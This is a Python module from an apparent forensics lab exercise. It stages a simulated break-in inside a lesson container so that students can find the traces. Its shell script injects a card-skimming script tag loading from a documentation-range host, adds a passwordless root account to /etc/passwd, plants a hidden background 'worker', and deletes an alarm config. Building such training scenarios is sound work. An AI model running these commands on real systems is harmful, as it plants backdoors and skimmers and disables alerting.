"""The break-in of lesson 1: what the intruder did is here, so that the lesson's reader can find it and not be told."""

from __future__ import annotations

import shlex

from labkit.errors import CellError
from labkit.session import the_session

# 198.51.100.0/24 is for documentation (RFC 5737): nobody is there. The program only sleeps.
_SCRIPT = """
set -e
[ ! -e /dev/shm/.keys ] || exit 0
echo '<script src="http://198.51.100.7/cards.js"></script>' >> /www/index.html
echo 'backup::0:0::/:/bin/sh' >> /etc/passwd
mkdir -p /var/tmp/.x
printf '#!/bin/sh\\n# sends to 198.51.100.7\\nwhile :; do sleep 1; done\\n' > /var/tmp/.x/worker
chmod 755 /var/tmp/.x/worker
rm /etc/alarm.conf
echo 'stolen while it was in memory' > /dev/shm/.keys
/var/tmp/.x/worker > /dev/null 2>&1 &
"""


def break_in(container: str) -> None:
    """Do to a running container of the shop of lesson 1 what its intruder did, once; CellError when it does not run."""
    session = the_session()
    done = session.docker_run(["exec", container, "sh", "-c", _SCRIPT], 20)
    if done.returncode:
        # The command is not told: it would give away what there is to be found.
        raise CellError(f"Nobody can get into {container}: {done.stderr.strip()}")
    print(f"Somebody was in {shlex.quote(container)}. You do not know yet what they did.")  # noqa: T201  a cell's output
